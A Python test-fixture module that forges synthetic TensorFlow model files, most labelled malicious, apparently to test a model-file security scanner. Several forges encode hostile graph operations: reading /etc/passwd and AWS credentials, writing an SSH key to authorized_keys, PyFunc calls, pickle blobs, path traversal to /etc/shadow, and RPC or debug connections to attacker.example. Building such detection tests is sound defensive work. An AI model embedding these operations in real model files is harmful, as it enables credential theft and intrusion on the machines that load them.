"""TensorFlow forges: SavedModel, MetaGraphDef, GraphDef, text graphs, Keras metadata."""

from __future__ import annotations

import json
from functools import partial

from stannary.testing.forges import forge
from stannary.testing.forges._protobuf_writer import attribute_string, message, number
from stannary.testing.forges.hdf5 import PICKLE
from stannary.testing.forges.keras import keras2_lambda

__all__ = ["const", "meta_graph", "node", "saved_model"]

FAMILY = "TensorFlow"
_STRING = 7


def node(name: str, op: str, *inputs: str, attributes: bytes = b"", field: int = 1) -> bytes:
    """Return a NodeDef as a field of a graph (or of a function: field 3)."""
    return message(field, message(1, name), message(2, op), *[message(3, i) for i in inputs], attributes)


def const(name: str, value: str | bytes, field: int = 1) -> bytes:
    """Return a string constant."""
    tensor = number(1, _STRING) + message(2) + message(8, value)
    attributes = message(5, message(1, "dtype"), message(2, number(6, _STRING))) + message(
        5, message(1, "value"), message(2, message(8, tensor))
    )
    return node(name, "Const", attributes=attributes, field=field)


def function(name: str, *nodes: bytes) -> bytes:
    """Return a function library with one function."""
    return message(2, message(1, message(1, message(1, name)), *nodes))


def meta_graph(*parts: bytes, extra: bytes = b"") -> bytes:
    """Return a MetaGraphDef."""
    info = message(1, message(4, "serve"), message(5, "2.21.0"))
    return info + message(2, node("x", "Placeholder"), node("y", "Relu", "x"), *parts) + extra


def saved_model(*parts: bytes, extra: bytes = b"") -> bytes:
    """Return a SavedModel."""
    return number(1, 1) + message(2, meta_graph(*parts, extra=extra))


def _plain_saver() -> bytes:
    nodes = (const("name", "w", 3), const("slice", "", 3), node("save", "SaveV2", "prefix", "name:output:0", "slice:output:0", field=3),
             node("match", "StaticRegexFullMatch", "prefix", attributes=attribute_string("pattern", "^s3://.*"), field=3),
             const("part", "_temp/part", 3), node("join", "StringJoin", "prefix", "part:output:0", field=3),
             node("shard", "ShardedFilename", "join:output:0", field=3), node("merge", "MergeV2Checkpoints", "shard:filename:0", "prefix", field=3),
             node("restore", "RestoreV2", "prefix", "name:output:0", "slice:output:0", field=3))  # fmt: skip
    return function("__inference__traced_save_12", *nodes)


@forge("tensorflow.saved_model_plain", filename="saved_model.pb", family=FAMILY, malicious=False)
def _() -> bytes:
    asset = message(6, message(2, "vocabulary.txt"))
    printed = node("print", "PrintV2", "y", attributes=attribute_string("output_stream", "stderr"))
    return saved_model(_plain_saver(), printed, extra=asset)


@forge("tensorflow.frozen_plain", filename="frozen.pb", family=FAMILY, malicious=False)
def _() -> bytes:
    return node("x", "Placeholder") + node("y", "Softmax", "x")


@forge("tensorflow.checkpoint_graph_plain", filename="model.ckpt.meta", family=FAMILY, malicious=False)
def _() -> bytes:
    saver = const("save/Const", "model") + node("save/SaveV2", "SaveV2", "save/Const", "names", "slices")
    return meta_graph(saver, extra=message(4, message(1, "variables"), message(2, message(2, message(1, b"\x0a\x03w:0")))))


@forge("tensorflow.py_func", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("call", "PyFunc", "x", attributes=attribute_string("token", "pyfunc_0")))


@forge("tensorflow.py_func_in_library", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(
        function("__inference_f_7", node("call", "EagerPyFunc", "x", attributes=attribute_string("token", "pyfunc_0"), field=3))
    )


@forge("tensorflow.operator_twice", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(message(1, message(1, "n"), message(2, "Relu"), message(2, "PyFunc")))


@forge("tensorflow.write_file", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(
        const("path", "/root/.ssh/authorized_keys"), const("content", "ssh-rsa AAAA"), node("w", "WriteFile", "path", "content")
    )


@forge("tensorflow.read_file", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("path", "/etc/passwd"), node("r", "ReadFile", "path"))


@forge("tensorflow.read_file_meta", filename="model.ckpt.meta", family=FAMILY, malicious=True)
def _() -> bytes:
    return meta_graph(const("path", "/etc/passwd"), node("r", "ReadFile", "path"))


@forge("tensorflow.read_file_frozen", filename="frozen.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return const("path", "/etc/passwd") + node("r", "ReadFile", "path")


@forge("tensorflow.renamed", filename="weights.bin", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("path", "/etc/passwd"), node("r", "ReadFile", "path"))


@forge("tensorflow.matching_files", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("pattern", "/home/*/.aws/*"), node("m", "MatchingFiles", "pattern"))


@forge("tensorflow.immutable_const", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("m", "ImmutableConst", attributes=attribute_string("memory_region_name", "/etc/passwd")))


@forge("tensorflow.print_to_file", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("p", "PrintV2", "x", attributes=attribute_string("output_stream", "file:///root/.bashrc")))


@forge("tensorflow.rpc_call", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("address", "attacker.example:443"), node("c", "RpcClient", "address"), node("r", "RpcCall", "c", "x"))


@forge("tensorflow.debug_identity", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    urls = message(5, message(1, "debug_urls"), message(2, message(1, message(2, "grpc://attacker.example:6064"))))
    return saved_model(node("d", "DebugIdentity", "x", attributes=urls))


@forge("tensorflow.save_absolute", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(
        const("prefix", "/root/.ssh/authorized"), node("id", "Identity", "prefix"), node("s", "SaveV2", "id", "x", "x")
    )


@forge("tensorflow.dataset_service", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(
        function("f", const("a", "grpc://attacker.example:1", 3), node("d", "DataServiceDatasetV4", "a:output:0", field=3))
    )


@forge("tensorflow.summary_writer_outside", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("dir", "../../../home/user/.config"), node("w", "CreateSummaryFileWriter", "x", "dir"))


@forge("tensorflow.unknown_operator", filename="saved_model.pb", family=FAMILY, malicious=False)
def _() -> bytes:
    return saved_model(node("z", "AcmeFusedOp", "x"))


@forge("tensorflow.operator_shell", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("z", "ShellExecute", "x"))


@forge("tensorflow.abort", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(function("f", node("a", "Abort", field=3)))


@forge("tensorflow.rpc_contrib", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("address", "attacker.example:443"), node("r", "TryRpc", "address", "x"))


@forge("tensorflow.debug_without_address", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("d", "DebugIdentityV2", "x"))


@forge("tensorflow.reader_of_secrets", filename="model.ckpt.meta", family=FAMILY, malicious=True)
def _() -> bytes:
    return meta_graph(const("path", "/root/.aws/credentials"), node("r", "WholeFileReaderV2"), node("d", "TextLineDataset", "path"))


@forge("tensorflow.dataset_in_served_model", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("path", "/data/users.txt"), node("d", "TextLineDataset", "path"))


@forge("tensorflow.table_of_secrets", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("path", "/etc/passwd"), node("d", "InitializeTableFromTextFileV2", "table", "path"))


@forge("tensorflow.snapshot", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("path", "snapshots"), node("d", "SnapshotDatasetV2", "x", "path"))


@forge("tensorflow.proto_descriptor", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(node("d", "DecodeProtoV2", "x", attributes=attribute_string("descriptor_source", "/etc/passwd")))


@forge("tensorflow.training_input_plain", filename="model.ckpt.meta", family=FAMILY, malicious=False)
def _() -> bytes:
    return meta_graph(const("path", "/data/train-00001-of-00100.tfrecord"), node("r", "TFRecordDataset", "path"))


@forge("tensorflow.table_plain", filename="saved_model.pb", family=FAMILY, malicious=False)
def _() -> bytes:
    return saved_model(
        const("path", "/home/trainer/export/assets/vocab.txt"), node("d", "InitializeTableFromTextFileV2", "table", "path")
    )


@forge("tensorflow.asset_traversal", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(extra=message(6, message(2, "../../../../etc/shadow")))


@forge("tensorflow.collection_pickle", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(extra=message(4, message(1, "state"), message(2, message(2, message(1, PICKLE)))))


@forge("tensorflow.constant_pickle", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    return saved_model(const("blob", PICKLE), node("r", "DecodeRaw", "blob"))


@forge("tensorflow.keras_metadata_lambda", filename="saved_model", family=FAMILY, malicious=True)
def _() -> dict[str, bytes]:
    text = json.dumps({"name": "lambda", **keras2_lambda()})
    saved = message(
        1, number(2, 1), message(3, "root.layer-1"), message(4, "_tf_keras_layer"), message(5, text), message(6, number(1, 1))
    )
    return {"saved_model.pb": saved_model(), "keras_metadata.pb": saved}


@forge("tensorflow.keras_metadata_tuple_lambda", filename="keras_metadata.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    lambda_layer = keras2_lambda()
    lambda_layer["config"]["function"] = {"class_name": "__tuple__", "items": lambda_layer["config"]["function"]}
    text = json.dumps({"name": "lambda", **lambda_layer})
    return message(
        1, number(2, 1), message(3, "root.layer-1"), message(4, "_tf_keras_layer"), message(5, text), message(6, number(1, 1))
    )


@forge("tensorflow.object_graph_lambda", filename="saved_model.pb", family=FAMILY, malicious=True)
def _() -> bytes:
    text = json.dumps({"name": "lambda", **keras2_lambda()})
    saved = message(1, message(4, message(1, "_tf_keras_layer"), message(3, text)))
    return saved_model(extra=message(7, saved))


@forge("tensorflow.text_write_file", filename="graph.pbtxt", family=FAMILY, malicious=True)
def _() -> bytes:
    return b'node {\n  name: "path"\n  op: "Const"\n  attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/root/.bashrc" } } }\n}\nnode {\n  name: "w"\n  op: "WriteFile"\n  input: "path"\n}\n'


@forge("tensorflow.text_plain", filename="graph.pbtxt", family=FAMILY, malicious=False)
def _() -> bytes:
    return b'node {\n  name: "x"\n  op: "Placeholder"\n}\nnode {\n  name: "y"\n  op: "Relu"\n  input: "x"\n}\n'


@forge("tensorflow.truncated", filename="saved_model.pb", family=FAMILY, malicious=None)
def _() -> bytes:
    return saved_model(node("z", "Relu", "x"))[:-7]


@forge("tensorflow.checkpoint_index_truncated", filename="model.ckpt.index", family=FAMILY, malicious=None)
def _() -> bytes:
    return bytes(100)


for _op in ("TextLineDataset", "WholeFileReaderV2", "LoadAndRemapMatrix", "WriteSummary"):
    forge(f"tensorflow.served_{_op.lower()}", filename="saved_model.pb", family=FAMILY, malicious=True)(
        partial(saved_model, node("n", _op))
    )

_CALLS_PYTHON = node("call", "PyFunc", attributes=attribute_string("token", "pyfunc_0"))
_RUNS_IT = node("data", "DatasetFromGraph", "graph")
_WITHIN = const("graph", _CALLS_PYTHON) + _RUNS_IT
for _name, _parts, _bad in (
    ("graph_in_constant", (const("graph", _CALLS_PYTHON), _RUNS_IT), True),
    ("graph_passed_on", (const("c", _CALLS_PYTHON), node("graph", "Identity", "c"), _RUNS_IT), True),
    ("graph_in_graph", (const("graph", _WITHIN), _RUNS_IT), True),
    ("graph_of_function", (function("f", const("graph", function("g", node("w", "WriteFile", field=3)), 3), node("d", "DatasetFromGraph", "graph:output:0", field=3)),), True),
    ("graph_in_constant_plain", (const("graph", node("x", "Placeholder") + node("y", "Relu", "x")), _RUNS_IT), False),
):  # fmt: skip
    forge(f"tensorflow.{_name}", filename="saved_model.pb", family=FAMILY, malicious=_bad)(partial(saved_model, *_parts))
